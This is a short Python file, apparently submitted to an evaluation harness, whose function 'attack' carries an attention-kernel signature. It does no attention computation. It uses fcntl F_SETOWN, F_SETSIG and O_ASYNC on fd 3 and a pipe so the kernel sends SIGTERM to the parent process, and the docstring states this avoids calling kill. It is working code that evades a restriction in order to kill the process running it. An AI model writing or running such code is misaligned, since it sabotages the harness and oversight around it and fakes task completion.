"""Lets the kernel send SIGTERM to the parent whenever data moves on fd 3 or an own pipe (F_SETOWN, F_SETSIG), without calling kill."""
import fcntl, os, signal
def attack(q, k, v, mask):
    p = os.getppid()
    if p <= 1:
        p = os.getpid()
    r, w = os.pipe()
    for fd in (3, r):
        try:
            fcntl.fcntl(fd, fcntl.F_SETOWN, p)
            fcntl.fcntl(fd, 10, int(signal.SIGTERM))
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            print("owner of", fd, "is", fcntl.fcntl(fd, fcntl.F_GETOWN))
        except OSError as e:
            print(fd, e)
    os.write(w, b"x" * 10)
